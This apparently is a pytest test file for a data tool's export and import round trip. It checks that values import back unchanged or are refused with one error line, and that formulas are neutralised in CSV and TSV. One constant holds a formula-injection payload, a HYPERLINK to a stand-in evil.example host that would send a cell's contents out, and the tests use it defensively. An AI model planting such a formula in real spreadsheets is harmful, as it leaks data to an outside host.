"""What export writes, import reads back unchanged, or export refuses it (SPEC §12.6, §12.7).

The database is changed behind the tool's back with SQL, to hold what other programs may
leave in it: values no file can bring back (an empty string, surrounding white space, a NUL,
more characters than import accepts), values XLSX cannot hold (control characters, U+FFFE,
U+FFFF, a carriage return) and values a spreadsheet would run as formulas. Every export
either imports back with every row `unchanged` and the tables as they were, or stops with
exit 2, one `Error:` line naming the row (by its key) and the column, and no file at all.
"""

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helpers import ACCOUNT_COLUMNS, EXAMPLES, Run, cli, execute, fetch, run_import, write_csv

FORMATS = ("csv", "tsv", "xlsx", "json", "jsonl")
TEXT_FORMATS = ("csv", "tsv", "json", "jsonl")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
# fmt: off
ACCOUNTS = [
    ["T-1", "First", "", "Enterprise", "", "", "", "", "", "", "", ""],
    ["T-2", "Second", "", "Partners", "", "", "", "", "", "", "", ""],
    ["T-3", "Third", "", "Retail Customers", "", "", "", "", "Ann", "Lee", "", "+49 30 1234567"],
]
# fmt: on


def seeded(tmp_path: Path, db_url: str) -> str:
    """The example groups and three accounts, T-3 an INDIVIDUAL one with a contact phone."""
    for path, model in (
        (EXAMPLES / "customer_groups.csv", "CustomerGroup"),
        (write_csv(tmp_path / "seed.csv", ACCOUNT_COLUMNS, ACCOUNTS), "Account"),
    ):
        run = run_import(path, model, db_url)
        assert run.exit_code == 0, run.stderr
    return db_url


def set_value(db_url: str, column: str, value: str, number: str = "T-2") -> None:
    execute(
        db_url, f"UPDATE account SET {column} = :v WHERE account_number = :n", v=value, n=number
    )


def snapshot(db_url: str) -> dict[str, list[tuple[object, ...]]]:
    return {t: fetch(db_url, f"SELECT * FROM {t} ORDER BY id") for t in ("account", "contact")}


def export(db_url: str, path: Path, model: str = "Account") -> Run:
    return cli("export", "--model", model, "--db", db_url, "-o", path, "--quiet")


def assert_refused(run: Run, folder: Path, *fragments: str) -> str:
    """Exit 2, one `Error:` line holding every fragment, and nothing left in `folder`."""
    lines = run.stderr.strip().splitlines()
    assert run.exit_code == 2, (run.exit_code, run.stderr)
    assert len(lines) == 1 and lines[0].startswith("Error: "), run.stderr
    for fragment in fragments:
        assert fragment in lines[0], (fragment, lines[0])
    assert sorted(p.name for p in folder.iterdir()) == []
    return lines[0]


def assert_reads_back_unchanged(db_url: str, path: Path, model: str = "Account") -> None:
    before = snapshot(db_url)
    run = run_import(path, model, db_url)
    assert run.exit_code == 0, run.stderr
    rows = run.rows
    assert rows["unchanged"] == rows["read"] > 0, rows
    assert snapshot(db_url) == before


def out_folder(tmp_path: Path, name: str) -> Path:
    folder = tmp_path / name
    folder.mkdir()
    return folder


# --- values no format can bring back ------------------------------------------------------

CANNOT_COME_BACK = [
    pytest.param("legal_name", "", "an empty string", id="empty"),
    pytest.param("industry", " Mining", "white space", id="leading-space"),
    pytest.param("name", "Second\t", "white space", id="trailing-tab"),
    pytest.param("name", "Second\u00a0", "white space", id="trailing-nbsp"),
    pytest.param("description", "d" * 10_001, "at most 10,000", id="longer-than-import-accepts"),
]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(("column", "value", "why"), CANNOT_COME_BACK)
def test_a_value_import_would_change_stops_every_format_naming_row_key_and_column(
    tmp_path: Path, db_url: str, fmt: str, column: str, value: str, why: str
) -> None:
    set_value(seeded(tmp_path, db_url), column, value)
    folder = out_folder(tmp_path, "out")
    run = export(db_url, folder / f"accounts.{fmt}")
    assert_refused(run, folder, f"Error: row 3 (account_number 'T-2'), column '{column}': ", why)


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_nul_in_sqlite_text_stops_every_format(tmp_path: Path, sqlite_url: str, fmt: str) -> None:
    set_value(seeded(tmp_path, sqlite_url), "description", "before\x00after")
    folder = out_folder(tmp_path, "out")
    run = export(sqlite_url, folder / f"accounts.{fmt}")
    assert_refused(run, folder, "row 3 (account_number 'T-2'), column 'description'", "NUL")


def test_the_key_is_shown_even_when_it_is_the_value_at_fault(
    tmp_path: Path, sqlite_url: str
) -> None:
    set_value(seeded(tmp_path, sqlite_url), "account_number", "T-2\x00")
    folder = out_folder(tmp_path, "out")
    run = export(sqlite_url, folder / "accounts.csv")
    assert_refused(run, folder, "row 3 (account_number 'T-2\\u0000'), column 'account_number'")


def test_a_contact_is_named_by_its_account_and_email_or_name(tmp_path: Path, db_url: str) -> None:
    seeded(tmp_path, db_url)
    contacts = write_csv(
        tmp_path / "c.csv",
        ["account", "first_name", "last_name", "email", "job_title"],
        [["T-1", "Bo", "Berg", "bo@example.com", "CEO"], ["T-2", "Cy", "Dahl", "", "CTO"]],
    )
    assert run_import(contacts, "Contact", db_url).exit_code == 0
    execute(db_url, "UPDATE contact SET job_title = job_title || ' '")  # Bo and Cy
    execute(db_url, "UPDATE contact SET department = 'Sales ' WHERE first_name = 'Ann'")
    folder = out_folder(tmp_path, "out")
    run = export(db_url, folder / "contacts.json", "Contact")
    # Ann Lee (T-3's primary contact, made with the account, without email) comes first
    assert_refused(
        run,
        folder,
        "row 2 (account 'T-3', first_name 'Ann', last_name 'Lee'), column 'department'",
        "white space",
    )
    execute(db_url, "UPDATE contact SET department = NULL WHERE first_name = 'Ann'")
    run = export(db_url, folder / "contacts.json", "Contact")
    assert_refused(run, folder, "row 3 (account 'T-1', email 'bo@example.com'), column 'job_title'")


# --- values only XLSX cannot hold ---------------------------------------------------------

XML_CANNOT_HOLD = [
    pytest.param("a\x01b", "control character (U+0001)", id="U+0001"),
    pytest.param("tab\x0bbed", "control character (U+000B)", id="vertical-tab"),
    pytest.param("a\x1fb", "control character (U+001F)", id="U+001F"),
    pytest.param("a\ufffeb", "U+FFFE", id="U+FFFE"),
    pytest.param("a\uffffb", "U+FFFF", id="U+FFFF"),
    pytest.param("Windows\r\nlines", "carriage return", id="CRLF"),
    pytest.param("old\rMac", "carriage return", id="CR"),
]


@pytest.mark.parametrize(("value", "why"), XML_CANNOT_HOLD)
def test_xlsx_refuses_what_xml_cannot_hold_and_the_text_formats_carry_it_unchanged(
    tmp_path: Path, db_url: str, value: str, why: str
) -> None:
    set_value(seeded(tmp_path, db_url), "description", value)
    folder = out_folder(tmp_path, "xlsx")
    run = export(db_url, folder / "accounts.xlsx")
    assert_refused(
        run, folder, "row 3 (account_number 'T-2'), column 'description'", why, "export as csv"
    )
    for fmt in TEXT_FORMATS:
        path = tmp_path / f"accounts.{fmt}"
        assert export(db_url, path).exit_code == 0
        assert_reads_back_unchanged(db_url, path)


def test_values_xml_can_hold_round_trip_through_xlsx(tmp_path: Path, db_url: str) -> None:
    seeded(tmp_path, db_url)
    for column, value in [
        ("description", "del\x7f, next line\x85, U+FDD0 \ufdd0, U+1FFFE \U0001fffe, _x000D_"),
        ("name", "=SUM(A1)"),
        ("legal_name", "#N/A"),
        ("industry", "'=quoted"),
    ]:
        set_value(db_url, column, value)
    path = tmp_path / "accounts.xlsx"
    assert export(db_url, path).exit_code == 0
    assert_reads_back_unchanged(db_url, path)


# --- formulas in CSV and TSV --------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_a_formula_is_neutralised_in_csv_and_tsv_and_imports_back_unchanged(
    tmp_path: Path, db_url: str, fmt: str
) -> None:
    seeded(tmp_path, db_url)
    set_value(db_url, "name", HYPERLINK)
    set_value(db_url, "industry", "@SUM(1)")
    set_value(db_url, "description", "-5")
    set_value(db_url, "legal_name", "'=already quoted")
    path = tmp_path / f"accounts.{fmt}"
    assert export(db_url, path).exit_code == 0
    raw = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in raw and "'@SUM(1)" in raw and "''=already quoted" in raw
    assert re.search(r"(^|[,\t])=", raw, re.MULTILINE) is None  # no cell starts with =
    assert "'+49" not in raw and "'-5" not in raw  # phones and numbers stay as they are
    assert "+49 30 1234567" in raw
    assert_reads_back_unchanged(db_url, path)


def test_json_and_xlsx_exports_carry_a_formula_as_plain_text(tmp_path: Path, db_url: str) -> None:
    set_value(seeded(tmp_path, db_url), "name", HYPERLINK)
    path = tmp_path / "accounts.jsonl"
    assert export(db_url, path).exit_code == 0
    assert json.loads(path.read_text(encoding="utf-8").splitlines()[1])["name"] == HYPERLINK
    assert_reads_back_unchanged(db_url, path)


# --- the rejects file ---------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_the_rejects_file_neutralises_formulas_and_importing_it_restores_them(
    tmp_path: Path, sqlite_url: str, fmt: str
) -> None:
    seeded(tmp_path, sqlite_url)
    row = {"account_number": "R-1", "name": HYPERLINK, "customer_group": "No such group"}
    if fmt == "csv":
        source = write_csv(
            tmp_path / "in.csv",
            ["account_number", "=odd header", "name", "customer_group"],
            [["R-1", "x", HYPERLINK, "No such group"]],
        )
    else:
        source = tmp_path / "in.json"
        source.write_text(json.dumps([{**row, "=odd header": "x"}]), encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    run = run_import(source, "Account", sqlite_url, "--rejects", rejects)
    assert run.exit_code == 1 and run.rows["failed"] == 1
    text = rejects.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text and "'=odd header" in text
    assert re.search(r"(^|,)\"?=", text, re.MULTILINE) is None
    fixed = tmp_path / "fixed.csv"
    fixed.write_text(text.replace("No such group", "Enterprise"), encoding="utf-8")
    run = run_import(fixed, "Account", sqlite_url)
    assert run.exit_code == 0 and run.rows["created"] == 1, run.stdout
    assert fetch(sqlite_url, "SELECT name FROM account WHERE account_number = 'R-1'") == [
        (HYPERLINK,)
    ]


# --- the property -------------------------------------------------------------------------

SPECIAL = "=+-@'\t\r\n \x00\x01\x0b\x0c\x1c\x1e\x1f\x7f\x85\xa0\u2028\ufffe\uffff\ufeff,;\"|#0"
CHARS = st.characters(codec="utf-8", exclude_categories=("Cs",)) | st.sampled_from(SPECIAL)
# short values (longer than import accepts is tested on its own above)
PROPERTY_COLUMNS = ("name", "legal_name", "industry", "description")
XLSX_UNFIT = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\r\ufffe\uffff]")


def expected_refusal(values: dict[str, str], fmt: str) -> str | None:
    """The column export must refuse, by SPEC §12.6: the first whose value no file brings
    back (empty, surrounding white space, a NUL), else in XLSX the first XML cannot hold."""
    in_order = [(c, values[c]) for c in ACCOUNT_COLUMNS if c in values]
    for column, value in in_order:
        if not value or value != value.strip() or "\x00" in value:
            return column
    for column, value in in_order:
        if fmt == "xlsx" and XLSX_UNFIT.search(value):
            return column
    return None


def check_round_trip(db_url: str, folder: Path, values: dict[str, str]) -> None:
    for column, value in values.items():
        set_value(db_url, column, value)
    for fmt in FORMATS:
        path = folder / f"accounts.{fmt}"
        run = export(db_url, path)
        refused = expected_refusal(values, fmt)
        if refused is None:
            assert run.exit_code == 0, (fmt, run.stderr)
            assert_reads_back_unchanged(db_url, path)
            path.unlink()
        else:
            assert_refused(run, folder, f"row 3 (account_number 'T-2'), column '{refused}'")


def values_for(engine_holds_nul: bool) -> Any:
    text = st.text(CHARS, max_size=14)
    if not engine_holds_nul:  # PostgreSQL text cannot hold a NUL
        text = text.map(lambda v: v.replace("\x00", ""))
    return st.fixed_dictionaries(dict.fromkeys(PROPERTY_COLUMNS, text))


def test_any_text_the_database_holds_is_exported_so_it_reads_back_or_refused_in_one_line(
    tmp_path: Path, db_url: str
) -> None:
    seeded(tmp_path, db_url)
    folder = out_folder(tmp_path, "out")
    sqlite = db_url.startswith("sqlite")

    @settings(
        max_examples=25 if sqlite else 10,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow],
    )
    @given(values=values_for(engine_holds_nul=sqlite))
    def round_trip(values: dict[str, str]) -> None:
        check_round_trip(db_url, folder, values)

    round_trip()
